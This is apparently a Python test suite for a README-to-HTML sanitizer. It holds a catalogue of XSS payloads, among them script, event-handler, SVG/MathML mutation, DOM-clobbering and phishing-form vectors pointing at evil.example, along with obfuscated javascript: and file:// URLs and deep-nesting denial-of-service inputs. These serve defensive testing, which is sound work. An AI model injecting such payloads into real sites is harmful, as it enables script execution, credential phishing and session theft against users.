"""READMEs that somebody wrote to run, leave or stall the page."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from readme_checks import Page, assert_harmless

from catalog_web.markdown import README_BYTES, render_readme
from catalog_web.readme_html import MAX_DEPTH, ReadmeLinks, rebuild

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script-slash": "<script/x>alert(1)</script >",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-slashes": "<img/src=x/onerror=alert(1)//",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "math-link": '<math href="javascript:alert(1)">x</math>',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "template": "<template><script>alert(1)</script></template>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "clobbering": '<a id="document" name="cookie"></a><form id="csrf"><input name="token"></form>',
    "autofocus": "<p tabindex=1 autofocus onfocus=alert(1) accesskey=x>x</p>",
    "attribute-quotes": '<a title="a&quot; onmouseover=&quot;alert(1)" href="https://example.org">x</a>',
    "fence-info": '```"><img src=x onerror=alert(1)>\nx\n```',
    "link-title": '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "image-text": '![" onerror=alert(1) x="](https://example.org/x.png)',
    "event-newline": "<p\nonclick\n=\nalert(1)>x</p>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "audio": "<audio src=x onerror=alert(1)>",
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "nul": "<scr\0ipt>alert(1)</scr\0ipt>",
    "slash-attribute": "<a/href='javascript:alert(1)'>x</a>",
}


@pytest.mark.parametrize("place", ["{}", "<div>\n{}\n</div>", "text {} text", "> {}", "| a |\n|---|\n| {} |"])
@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_F1_no_html_runs_loads_or_submits(vector, place):
    assert_harmless(render_readme(place.format(vector)).html)


@pytest.mark.parametrize("name", ["script", "script-case", "style", "iframe-srcdoc", "template", "svg-script"])
def test_F1_code_that_a_browser_would_not_show_is_not_shown_either(name):
    assert Page(render_readme(f"<div>{VECTORS[name]}</div>").html).text.strip() == ""


LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "ssh://example.org",
    "ftp://example.org",
    "tel:123",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:\\\\evil.example",
    "https://good.example@evil.example/",
    "https:///evil.example",
    "https://[::1",
    "https://example.org:99999999/",
    "http://",
    "mailto:",
    "\u202ehttps://example.org",
    "https://exam\u200bple.org",
    "https://example.org/" + "a" * 3000,
]


@pytest.mark.parametrize("url", LINKS)
def test_F2_only_web_and_mail_links_are_links(url):
    for text in (f'<a href="{url}">x</a>', f"[x]({url})", f"[x](<{url}>)", f"<{url}>", f"[x]\n\n[x]: {url}"):
        page = assert_harmless(render_readme(text).html)
        assert page.links() == [], text


def test_F2_images_follow_the_same_rule():
    for url in LINKS:
        assert assert_harmless(render_readme(f'<img src="{url}" alt="x">').html).links() == []


def depth(html):
    """How deep the elements of ``html`` lie in one another."""
    deepest = now = 0

    class Counter(Page):
        def handle_starttag(self, tag, attrs):
            nonlocal deepest, now
            now += tag not in ("br", "hr")
            deepest = max(deepest, now)

        def handle_endtag(self, tag):
            nonlocal now
            now -= 1

    Counter(html)
    assert now == 0, "well-formed"
    return deepest


@pytest.mark.parametrize("tag", ["div", "blockquote", "b", "span", "ul", "details"])
def test_F3_deep_nesting_is_shown_as_text_and_never_reaches_the_quadratic_parser(tag):
    nested = f"<{tag}>" * 40_000
    assert depth(rebuild(nested, ReadmeLinks())) == MAX_DEPTH
    assert f"<{tag}>" * 1000 in Page(render_readme("<div>\n" + nested).html).text


@pytest.mark.parametrize(
    "unit",
    [
        "<div><object></div></object>",
        "<p><b><p></b>",
        "<table><b><table>",
        "<li><b>x",
        "<a href=https://example.org>",
        "<table><tr><td><p><i>x</table>",
        "<h1><b><h2>",
        "<dl><dt><u><dd>",
        "<td><tr><tbody>",
    ],
)
def test_F3_misnested_html_makes_no_more_elements_than_it_has_tags(unit):
    many = unit * 3_000
    page = assert_harmless(render_readme("<div>\n" + many).html)
    assert len(page.elements) <= 2 * many.count("<")
    assert depth(rebuild(many, ReadmeLinks())) <= MAX_DEPTH


def test_F3_formatting_left_open_is_not_repeated_in_every_paragraph():
    fonts = "".join(f'<b id="b{number}">' for number in range(80))
    page = assert_harmless(render_readme(f"<div><p>{fonts}" + "<p>x</p>" * 5_000).html)
    assert len(page.elements) < 5_200


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "[a](",
        "<a b='",
        "<!--",
        "<?",
        "<!",
        "<script>",
        "<svg></svg",
        "*a_",
        "`",
        ">",
        "&",
        "~",
        "|a",
        "<a ",
        "\\",
    ],
)
def test_F3_unfinished_markup_without_end_is_rendered(unit):
    text = unit * (40_000 // len(unit))
    assert_harmless(render_readme(text).html)
    assert_harmless(render_readme("<div>\n" + text).html)


def test_F3_images_within_images_without_end_are_shown_as_they_are_written():
    text = "![" * 3000 + "x" + "](y)" * 3000
    assert "![![![" in assert_harmless(render_readme(text).html).text


def test_F4_only_the_capped_part_of_a_long_readme_is_rendered():
    rendered = render_readme("The quick brown fox jumps over the lazy dog.\n\n" * 25_000)
    assert rendered.truncated
    assert len(Page(rendered.html).text) <= README_BYTES


MARKUP = st.sampled_from(
    [
        *(
            "<",
            ">",
            "</",
            "/>",
            "=",
            '"',
            "'",
            "&",
            ";",
            "`",
            "(",
            ")",
            "[",
            "]",
            "!",
            "\\",
            "\n",
            "\n\n",
            " ",
            "\t",
            "#",
            "|",
        ),
        *("<div", "<p", "<a", "<img", "<table>", "<tr>", "<td>", "<b>", "</b>", "</p>", "</div>", "</table>", "<li>"),
        *(
            "<script",
            "</script>",
            "<style>",
            "</style>",
            "<iframe",
            "<svg",
            "</svg>",
            "<math>",
            "<!--",
            "-->",
            "<![CDATA[",
        ),
        *(
            " onclick",
            " onerror",
            " style",
            " href",
            " src",
            " id",
            " class",
            "javascript:",
            "data:",
            "https://a.b/",
            "//",
        ),
        *("&#106;", "&colon;", "\0", "\x01", "\ud800", "```", "~~~", "> ", "- ", "1. ", "---", "title", "<textarea>"),
    ]
)


@settings(max_examples=400)
@given(st.lists(MARKUP | st.text(max_size=3), max_size=40).map("".join))
def test_any_text_renders_to_harmless_html(text):
    assert_harmless(render_readme(text).html)


@settings(max_examples=400)
@given(st.lists(MARKUP, max_size=40).map("".join))
def test_any_html_is_rebuilt_well_formed(html):
    depth(rebuild(html, ReadmeLinks()))
